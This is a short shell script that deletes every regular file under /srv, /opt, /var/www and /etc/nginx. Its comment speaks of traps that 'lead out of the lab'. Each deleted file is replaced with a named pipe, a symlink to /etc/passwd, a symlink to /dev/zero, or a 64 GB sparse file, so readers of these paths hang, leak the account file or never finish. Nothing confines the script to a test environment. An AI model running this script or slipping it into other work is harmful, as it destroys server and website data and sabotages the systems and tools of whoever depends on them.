# Files that hang a reader, lead out of the lab, or never end.
for folder in /srv /opt /var/www /etc/nginx; do
  [ -d "$folder" ] || continue
  find "$folder" -xdev -type f -not -path '*/.git/*' 2>/dev/null | while IFS= read -r file; do
    number=$((number + 1))
    rm -f -- "$file"
    case $((number % 4)) in
      0) mkfifo -- "$file" ;;
      1) ln -s /proc/self/root/etc/passwd "$file" ;;
      2) ln -s /dev/zero "$file" ;;
      3) truncate -s 64G -- "$file" 2>/dev/null || ln -s "$file" "$file" ;;
    esac
  done
done
exit 0
